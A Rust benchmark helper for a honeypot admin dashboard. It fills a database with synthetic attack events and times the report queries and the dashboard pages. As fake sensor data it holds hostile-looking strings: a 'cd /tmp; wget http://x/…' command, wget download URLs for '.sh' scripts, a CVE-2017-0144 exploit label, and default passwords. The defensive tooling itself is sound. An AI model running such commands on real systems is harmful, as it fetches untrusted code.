//! Benchmark helper for `scripts/bench-admin.sh` (not part of the product).
//!
//! `bench_admin gen DB N [--no-drill-indexes]`
//!                         writes N synthetic events (30 days, 4 sensors, Zipf-distributed
//!                         sources, users and passwords) through the ingest path
//!                         (`storage::sqlite::insert_event`, 100k events per transaction),
//!                         with the whole schema (the covering indexes on `events` included).
//!                         `--no-drill-indexes`: without the drill-down's `events_source` and
//!                         `events_session` (schema 6) while inserting, then builds them (timed),
//!                         so two runs give the insert cost of those indexes.
//! `bench_admin time DB`   folds them into the analytics tables (timed), then times every
//!                         report query over several ranges and prints a Markdown table, then
//!                         the dashboard's pages and drill-down (attacker, session, search,
//!                         time chart, map), then times folding 100k new events.
//! `bench_admin queries DB` only the two tables (changes nothing; for before/after runs).
//! `bench_admin url URL`   any backend (`sqlite:PATH`, `postgres://…`): folds what is new
//!                         (timed), then the two tables (`scripts/bench-fleet.sh` runs it on a
//!                         PostgreSQL copy made by `drosera-admin migrate`).
// Tests, benches and examples may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use anyhow::Context;
use drosera_admin::analytics::{self, DrillConfig, Query, DAY_MS, HOUR_MS};
use drosera_admin::dashboard::drill;
use drosera_admin::enrich::Enricher;
use drosera_admin::storage::sqlite as db;
use drosera_admin::storage::Storage;
use drosera_uplink::event::{CloseReason, Detail, Event, Health, Priority, Protocol, Secret, ShedReason, Transport};
use rand::{Rng, SeedableRng};
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::time::Instant;

const SENSORS: [&str; 4] = ["pi-garage", "pi-office", "pi-cloud-1", "pi-cloud-2"];
const SERVICES: [(Protocol, u16, u32); 10] = [
    (Protocol::Telnet, 23, 30),
    (Protocol::Ssh, 22, 25),
    (Protocol::Smb, 445, 12),
    (Protocol::Http, 80, 10),
    (Protocol::Mssql, 1433, 5),
    (Protocol::Mysql, 3306, 5),
    (Protocol::Ftp, 21, 5),
    (Protocol::Redis, 6379, 3),
    (Protocol::Sip, 5060, 2),
    (Protocol::Blackhole, 8080, 3),
];
const USERS: [&str; 12] =
    ["root", "admin", "user", "support", "guest", "ubuntu", "pi", "test", "oracle", "postgres", "sa", "ftp"];

/// Index in 0..n with a heavy head (roughly Zipf).
fn skewed(rng: &mut impl Rng, n: u32) -> u32 {
    let u: f64 = rng.gen();
    ((n as f64) * u.powi(4)) as u32
}

fn ip_for(i: u32) -> IpAddr {
    let h = (i as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 32;
    let mut a = 1 + (h % 223) as u8;
    if matches!(a, 10 | 100 | 127 | 169 | 172 | 192 | 198 | 203) {
        a += 1;
    }
    IpAddr::V4(Ipv4Addr::new(a, (h >> 8) as u8, (h >> 16) as u8, (h >> 24) as u8 | 1))
}

/// The drill-down's indexes on `events` (SQLite schema 6), as `--no-drill-indexes` drops and
/// rebuilds them.
const DRILL_INDEXES: [(&str, &str); 2] = [
    ("events_source", "CREATE INDEX IF NOT EXISTS events_source ON events(src_ip, time_ms)"),
    ("events_session", "CREATE INDEX IF NOT EXISTS events_session ON events(sensor_id, session_id, seq)"),
];

fn generate(path: &Path, n: u64, drill_indexes: bool) -> anyhow::Result<()> {
    // The whole schema, as `serve` has it: covering indexes on `events` that ingest maintains.
    let mut conn = db::open(path)?;
    if !drill_indexes {
        for (name, _) in DRILL_INDEXES {
            conn.execute_batch(&format!("DROP INDEX IF EXISTS {name}"))?;
        }
    }
    let mut rng = rand::rngs::StdRng::seed_from_u64(42);
    let end = analytics::now_ms();
    let start = end - 30 * DAY_MS;
    let step = (30 * DAY_MS) as f64 / n as f64;
    let mut seqs = [0u64; 4];
    let mut sessions = [0u64; 4];
    let started = Instant::now();
    let batch = 100_000u64;
    let mut i = 0u64;
    while i < n {
        let tx = conn.transaction()?;
        let ids: Vec<i64> = SENSORS.iter().map(|s| db::sensor_id(&tx, s)).collect::<Result<_, _>>()?;
        for _ in 0..batch.min(n - i) {
            let s = [0, 0, 0, 0, 1, 1, 2, 3][rng.gen_range(0..8)];
            let total: u32 = SERVICES.iter().map(|x| x.2).sum();
            let mut pick = rng.gen_range(0..total);
            let (protocol, port, _) = *SERVICES
                .iter()
                .find(|x| {
                    if pick < x.2 {
                        true
                    } else {
                        pick -= x.2;
                        false
                    }
                })
                .unwrap_or(&SERVICES[0]);
            let k = rng.gen_range(0..1000);
            let detail = if k < 550 {
                sessions[s] += 1;
                Detail::Connection { first_bytes: vec![], closed_by: CloseReason::ClientClosed }
            } else if k < 850 {
                let user = USERS[skewed(&mut rng, USERS.len() as u32) as usize];
                let pw = match skewed(&mut rng, 20_000) {
                    0 => "123456".to_string(),
                    1 => "admin".to_string(),
                    x => format!("pw{x}"),
                };
                Detail::Login { username: user.into(), secret: Secret::Password(pw), success: false, extra: vec![] }
            } else if k < 930 {
                Detail::Command { line: format!("cd /tmp; wget http://x/{}", skewed(&mut rng, 500)) }
            } else if k < 970 {
                Detail::HttpRequest {
                    method: "GET".into(),
                    path: format!("/p{}", skewed(&mut rng, 300)),
                    query: String::new(),
                    host: String::new(),
                    user_agent: "bench".into(),
                    body_sha256: None,
                    body_len: 0,
                    extra: vec![],
                }
            } else if k < 980 {
                Detail::Fingerprint {
                    kind: "hassh".into(),
                    value: format!("{:032x}", skewed(&mut rng, 50)),
                    extra: vec![],
                }
            } else if k < 985 {
                let h = skewed(&mut rng, 400) as u8;
                Detail::Payload {
                    sha256: [h; 32],
                    size: 1000 + h as u64,
                    name: String::new(),
                    prefix: vec![],
                    truncated: false,
                }
            } else if k < 990 {
                Detail::DownloadOffered {
                    url: format!("http://198.51.100.{}/x.sh", skewed(&mut rng, 200)),
                    tool: "wget".into(),
                }
            } else if k < 995 {
                Detail::Exploit {
                    name: format!("exploit-{}", skewed(&mut rng, 20)),
                    cve: "CVE-2017-0144".into(),
                    extra: vec![],
                }
            } else {
                Detail::Rollup { minute_ms: 0, reason: ShedReason::RateLimited, connections: rng.gen_range(1..200) }
            };
            seqs[s] += 1;
            let ev = Event {
                seq: seqs[s],
                time_ms: start + (i as f64 * step) as i64,
                sensor: String::new(),
                transport: Transport::Tcp,
                protocol,
                src_ip: ip_for(skewed(&mut rng, 50_000)),
                src_port: rng.gen(),
                dst_port: port,
                session_id: sessions[s],
                duration_ms: rng.gen_range(0..30_000),
                bytes_in: rng.gen_range(0..2000),
                bytes_out: rng.gen_range(0..2000),
                priority: Priority::Noise,
                detail,
            };
            db::insert_event(&tx, ids[s], &ev)?;
            i += 1;
        }
        let h = Health {
            backlog_events: rng.gen_range(0..100),
            cpu_permille: 80,
            governor: "normal".into(),
            ..Default::default()
        };
        for id in &ids {
            tx.execute(
                "UPDATE sensors SET last_contact_ms = ?1, health_json = ?2 WHERE id = ?3",
                rusqlite::params![end, serde_json::to_string(&h)?, id],
            )?;
        }
        tx.commit()?;
        if i % 1_000_000 == 0 {
            eprintln!("{i} events, {:.0} events/s", i as f64 / started.elapsed().as_secs_f64());
        }
    }
    let secs = started.elapsed().as_secs_f64();
    println!(
        "generated {n} events in {secs:.1} s = {:.0} events/s ({})",
        n as f64 / secs.max(1e-9),
        if drill_indexes { "with the drill indexes" } else { "WITHOUT events_source and events_session" }
    );
    if !drill_indexes {
        // The database is left whole, as `serve` would have it, for `time`.
        for (name, sql) in DRILL_INDEXES {
            let t = Instant::now();
            conn.execute_batch(sql)?;
            println!("building {name} afterwards: {:.1} s", t.elapsed().as_secs_f64());
        }
    }
    Ok(())
}

fn time_it<T>(f: impl Fn() -> anyhow::Result<T>) -> anyhow::Result<f64> {
    let mut best = f64::MAX;
    for _ in 0..3 {
        let t = Instant::now();
        f()?;
        best = best.min(t.elapsed().as_secs_f64() * 1000.0);
    }
    Ok(best)
}

fn time_queries(path: &Path) -> anyhow::Result<()> {
    let mut conn = db::open(path)?;
    let en = Enricher::new(&Default::default())?;
    let n: i64 = conn.query_row("SELECT COUNT(*) FROM events", [], |r| r.get(0))?;
    let t = Instant::now();
    let folded = analytics::refresh(&mut conn, &en)?;
    let secs = t.elapsed().as_secs_f64();
    println!("events in database: {n}");
    println!(
        "analytics refresh (catch-up): {folded} events in {secs:.1} s = {:.0} events/s",
        folded as f64 / secs.max(1e-9)
    );
    let bytes = std::fs::metadata(path)?.len();
    println!("database file: {} MiB", bytes >> 20);
    query_table(&conn)?;
    page_table(&conn)?;
    // Steady state: 100k new events, then a refresh.
    let now = analytics::now_ms();
    let mut tx_conn = db::open(path)?;
    let tx = tx_conn.transaction()?;
    let id = db::sensor_id(&tx, SENSORS[0])?;
    let base: i64 =
        tx.query_row("SELECT COALESCE(MAX(seq), 0) FROM events WHERE sensor_id = ?1", [id], |r| r.get(0))?;
    for k in 0..100_000i64 {
        let ev = Event {
            seq: (base + 1 + k) as u64,
            time_ms: now - 1000 + k % 1000,
            sensor: String::new(),
            transport: Transport::Tcp,
            protocol: Protocol::Telnet,
            src_ip: ip_for((k % 5000) as u32),
            src_port: 1,
            dst_port: 23,
            session_id: k as u64,
            duration_ms: 0,
            bytes_in: 0,
            bytes_out: 0,
            priority: Priority::Noise,
            detail: Detail::Connection { first_bytes: vec![], closed_by: CloseReason::ClientClosed },
        };
        db::insert_event(&tx, id, &ev)?;
    }
    tx.commit()?;
    let t = Instant::now();
    let folded = analytics::refresh(&mut conn, &en)?;
    println!("incremental refresh: {folded} new events in {:.2} s", t.elapsed().as_secs_f64());
    Ok(())
}

/// Times every report query over the four ranges (best of 3) and prints the Markdown table.
fn query_table(conn: &dyn drosera_admin::storage::Storage) -> anyhow::Result<()> {
    let now = analytics::now_ms();
    let ranges = [
        ("30 days", Query { since_ms: Some(now - 31 * DAY_MS), until_ms: None, sensor: None, ..Default::default() }),
        ("7 days", Query { since_ms: Some(now - 7 * DAY_MS), until_ms: None, sensor: None, ..Default::default() }),
        ("24 hours", Query { since_ms: Some(now - 24 * HOUR_MS), until_ms: None, sensor: None, ..Default::default() }),
        (
            "30 days, 1 sensor",
            Query {
                since_ms: Some(now - 31 * DAY_MS),
                until_ms: None,
                sensor: Some(SENSORS[0].into()),
                ..Default::default()
            },
        ),
    ];
    println!("\n| query | 30 days | 7 days | 24 hours | 30 days, 1 sensor |\n|---|---|---|---|---|");
    type Q = Box<dyn Fn(&dyn drosera_admin::storage::Storage, &Query) -> anyhow::Result<()>>;
    let queries: Vec<(&str, Q)> = vec![
        ("totals", Box::new(|c, q| Ok(analytics::totals(c, q).map(|_| ())?))),
        ("timeline", Box::new(|c, q| Ok(analytics::timeline(c, q).map(|_| ())?))),
        ("top sources (min 10 attempts)", Box::new(|c, q| Ok(analytics::top_sources(c, q, 10, 50).map(|_| ())?))),
        ("countries", Box::new(|c, q| Ok(analytics::countries(c, q, 50).map(|_| ())?))),
        ("protocols", Box::new(|c, q| Ok(analytics::protocols(c, q).map(|_| ())?))),
        ("ports", Box::new(|c, q| Ok(analytics::ports(c, q, 50).map(|_| ())?))),
        ("credentials", Box::new(|c, q| Ok(analytics::credentials(c, q, 50).map(|_| ())?))),
        ("payloads", Box::new(|c, q| Ok(analytics::payloads(c, q, 50).map(|_| ())?))),
        ("exploits", Box::new(|c, q| Ok(analytics::exploits(c, q, 50).map(|_| ())?))),
        ("downloads", Box::new(|c, q| Ok(analytics::downloads(c, q, 50).map(|_| ())?))),
        ("sensors", Box::new(|c, q| Ok(analytics::sensors(c, q).map(|_| ())?))),
        ("full report (all of the above)", Box::new(|c, q| Ok(analytics::report(c, q, 10, 50).map(|_| ())?))),
    ];
    for (name, f) in &queries {
        let mut cells = Vec::new();
        for (_, q) in &ranges {
            cells.push(format!("{:.0} ms", time_it(|| f(conn, q))?));
        }
        println!("| {name} | {} |", cells.join(" | "));
    }
    let r = analytics::report(conn, &ranges[0].1, 10, 5)?;
    println!(
        "\n30-day totals: {} attempts, {} logins, {} attackers, {} countries",
        r.totals.attempts, r.totals.logins, r.totals.attackers, r.totals.countries
    );
    Ok(())
}

/// Times the dashboard's pages as the dashboard builds them (the same library functions, then
/// the same HTML): the drill-down (attacker page of the busiest and of a typical address, a
/// session page, each search kind), the overview's time chart over 1 h / 20 h / 30 days, the
/// map, and whole report pages. Best of 3; prints a Markdown table. Excludes what every request
/// also does first: `analytics::refresh` (timed above) and the session check.
fn page_table(conn: &dyn Storage) -> anyhow::Result<()> {
    let now = analytics::now_ms();
    let caps = DrillConfig::default();
    let since = |ms: i64| Query { since_ms: Some(now - ms), until_ms: None, sensor: None, ..Default::default() };
    let month = since(31 * DAY_MS);
    // The busiest address by attempts, and a typical active one: the median by events of the
    // top MAX_LIMIT by attempts (rolled-up connections make attempts a poor measure of events).
    let top = analytics::top_sources(conn, &month, 0, analytics::MAX_LIMIT)?;
    let busiest = top.rows.first().context("no attacker in the last 30 days: run gen first")?.ip.clone();
    let mut by_events: Vec<&analytics::SourceRow> = top.rows.iter().collect();
    by_events.sort_by_key(|r| r.events);
    let typical_row = by_events[by_events.len() / 2];
    let typical = typical_row.ip.clone();
    let a = analytics::attacker(conn, &month, &busiest, 1, &caps)?.context("busiest address has no events")?;
    // Its longest session on the first page.
    let sess = a.sessions.iter().max_by_key(|s| s.events).context("busiest address has no session")?.clone();
    let prefix = {
        let ip: IpAddr = busiest.parse()?;
        match ip {
            IpAddr::V4(v4) => format!("{}.{}.0.0/16", v4.octets()[0], v4.octets()[1]),
            IpAddr::V6(_) => format!("{busiest}/48"),
        }
    };
    let qs = "";
    let filter = drosera_admin::dashboard::pages::Filter::default();
    println!(
        "\nbusiest address {busiest}: {} events read (cap {}), {} sessions; typical address {typical}: {} events, {} attempts",
        a.events, caps.attacker_events, a.sessions_total, typical_row.events, typical_row.attempts
    );
    println!("\n| page (dashboard functions, HTML included) | time | HTML | what it read |\n|---|---|---|---|");
    // Each returns the page's HTML and what it found.
    type P<'a> = Box<dyn Fn() -> anyhow::Result<(String, String)> + 'a>;
    let cut = |c: bool| if c { ", TRUNCATED" } else { "" };
    let attacker = |ip: String| -> P<'_> {
        let month = month.clone();
        Box::new(move || {
            let a = analytics::attacker(conn, &month, &ip, 1, &caps)?.context("no events")?;
            let what = format!("{} events, {} sessions{}", a.events, a.sessions_total, cut(a.truncated));
            Ok((drill::attacker_page(&a, qs), what))
        })
    };
    let search = |text: String| -> P<'_> {
        let (month, filter) = (month.clone(), filter.clone());
        Box::new(move || {
            let r = analytics::search(conn, &month, &text, &caps)?;
            let what = format!("{} hits{}", r.hits.len(), cut(r.truncated));
            Ok((drill::search_page(&text, Some(&r), &filter), what))
        })
    };
    let overview = |ms: i64| -> P<'_> {
        let q = since(ms);
        Box::new(move || Ok((drosera_admin::dashboard::page_body(conn, &q, "/", 20, 0)?, String::new())))
    };
    let chart = |ms: i64| -> P<'_> {
        let q = since(ms);
        Box::new(move || {
            let tl = analytics::timeline(conn, &q)?;
            // The overview's chart part: the page function with empty totals and no tables.
            let html = drosera_admin::dashboard::pages::overview(&Default::default(), &tl, &[], &[]);
            Ok((html, format!("{} {} buckets", tl.buckets.len(), tl.resolution)))
        })
    };
    let pages: Vec<(String, P<'_>)> = vec![
        (format!("attacker page, busiest address ({busiest})"), attacker(busiest.clone())),
        (format!("attacker page, typical address ({typical})"), attacker(typical.clone())),
        (
            format!("session page ({}/{})", sess.sensor, sess.session_id),
            Box::new(|| {
                let s = analytics::session(conn, &sess.sensor, sess.session_id, &caps)?.context("no session")?;
                let what = format!("{} events{}", s.events.len(), cut(s.truncated));
                Ok((drill::session_page(&s), what))
            }),
        ),
        (format!("search: address prefix {prefix}"), search(prefix.clone())),
        ("search: user name `user:root`".into(), search("user:root".into())),
        ("search: password `pass:123456`".into(), search("pass:123456".into())),
        ("search: sha256 (a payload's)".into(), search("00".repeat(32))),
        ("search: protocol `telnet`".into(), search("telnet".into())),
        ("time chart (timeline), 1 hour".into(), chart(HOUR_MS)),
        ("time chart (timeline), 20 hours".into(), chart(20 * HOUR_MS)),
        ("time chart (timeline), 30 days".into(), chart(31 * DAY_MS)),
        (
            "map: every country + world map, 30 days".into(),
            Box::new(|| {
                let countries = analytics::countries(conn, &month, analytics::MAX_LIMIT)?;
                let what = format!("{} countries", countries.len());
                Ok((drosera_admin::dashboard::pages::world_map(&countries), what))
            }),
        ),
        ("overview page (totals, chart, protocols, map), 1 hour".into(), overview(HOUR_MS)),
        ("overview page, 20 hours".into(), overview(20 * HOUR_MS)),
        ("overview page, 30 days".into(), overview(31 * DAY_MS)),
        (
            "attackers page (field report charts), 30 days".into(),
            Box::new(|| Ok((drosera_admin::dashboard::page_body(conn, &month, "/attackers", 20, 10)?, String::new()))),
        ),
    ];
    for (name, f) in &pages {
        let (html, what) = f()?;
        let ms = time_it(f)?;
        println!("| {name} | {ms:.0} ms | {} KiB | {what} |", html.len().div_ceil(1024));
    }
    Ok(())
}

fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        Some("gen") if args.len() == 4 => generate(Path::new(&args[2]), args[3].parse()?, true),
        Some("gen") if args.len() == 5 && args[4] == "--no-drill-indexes" => {
            generate(Path::new(&args[2]), args[3].parse()?, false)
        }
        Some("time") if args.len() == 3 => time_queries(Path::new(&args[2])),
        Some("queries") if args.len() == 3 => {
            let conn = db::open(Path::new(&args[2]))?;
            query_table(&conn)?;
            page_table(&conn)
        }
        // Any backend by URL (sqlite:PATH or postgres://…): fold what is new (timed), then the table.
        Some("url") if args.len() == 3 => {
            let b = drosera_admin::storage::parse_url(&args[2]).map_err(anyhow::Error::msg)?.context("empty URL")?;
            let mut store = drosera_admin::storage::open_backend(&b)?;
            let t = Instant::now();
            let folded = analytics::refresh(&mut *store, &Enricher::new(&Default::default())?)?;
            let secs = t.elapsed().as_secs_f64();
            println!(
                "analytics refresh: {folded} events in {secs:.1} s = {:.0} events/s",
                folded as f64 / secs.max(1e-9)
            );
            query_table(&*store)?;
            page_table(&*store)
        }
        _ => anyhow::bail!(
            "usage: bench_admin gen DB N [--no-drill-indexes] | bench_admin time DB | bench_admin queries DB | bench_admin url URL"
        ),
    }
}
